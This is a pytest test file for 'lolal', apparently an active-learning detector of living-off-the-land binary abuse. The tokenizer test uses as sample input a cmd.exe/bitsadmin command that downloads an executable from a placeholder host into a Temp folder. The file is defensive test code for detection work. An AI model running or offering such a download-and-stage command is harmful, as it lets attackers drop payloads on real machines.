import numpy as np
import pytest

import lolal


def test_tokenize_worked_example():
    tokens = lolal.tokenize_line(
        "cmd.exe /c bitsadmin.exe  /transfer getitman /download /priority high "
        "http://domain.com/suspic.exe  C:\\Users\\  Temp\\30304050.exe")
    words = [t for t in tokens if t.isalnum()]
    assert len(words) == 20
    assert tokens[:3] == ["cmd", ".", "exe"]


def test_tokenize_joins_parent_and_child():
    assert lolal.tokenize("a", "b") == ["a", "<sep>", "b"]
    assert lolal.tokenize("", "b") == ["b"]


def test_uncertainty_and_ranking():
    assert lolal.uncertainty_score([0.5, 0.5]) == 0.0
    assert lolal.uncertainty_score([1.0, 0.0]) == -1.0
    ranked = lolal.rank_round_robin([(0, -0.9, 1.0), (0, -0.1, 5.0), (1, -0.5, 2.0)], 2)
    assert [(i, r) for i, _, r, _ in ranked] == [(1, "uncertain"), (2, "uncertain"), (0, "anomalous")]
    with pytest.raises(lolal.LolalError):
        lolal.uncertainty_score([])


def test_nb_anomaly_at_mean():
    train = np.array([[2.0, 2.0], [4.0, 4.0]])
    a = lolal.nb_anomaly_scores(train, [0, 0], np.array([[3.0, 3.0]]), [0])
    assert a[0] == pytest.approx(np.log(2 * np.pi), abs=1e-9)


@pytest.fixture(scope="module")
def corpus():
    return lolal.generate_corpus({"scale": 0.1, "unlabeled_size": 40})


def test_generate_corpus(corpus):
    labeled, unlabeled = corpus
    assert len(unlabeled) == 40
    assert {s["label"] for s in labeled} >= {"Benign", "CertutilLolbin"}


def test_pipeline_featurize(corpus, tmp_path):
    labeled, unlabeled = corpus
    pipeline = lolal.Pipeline.train(labeled + unlabeled, dim=16, epochs=3)
    x = pipeline.featurize(unlabeled[:7], labeled)
    assert x.shape == (7, 3 * 16 + 5 + 5) == (7, pipeline.width)
    assert len(pipeline.names) == pipeline.width
    pipeline.save(tmp_path / "p.json")
    again = lolal.Pipeline.load(tmp_path / "p.json")
    np.testing.assert_array_equal(again.featurize(unlabeled[:7], labeled), x)
    scores = pipeline.token_scores(labeled)
    assert all(0.0 <= v <= 1.0 for v in scores.values())


def test_small_simulation(corpus):
    labeled, unlabeled = corpus
    report = lolal.simulate(labeled, unlabeled, iterations=3, runs=1, epochs=2)
    again = lolal.simulate(labeled, unlabeled, iterations=3, runs=1, epochs=2)
    assert report == again
    assert report
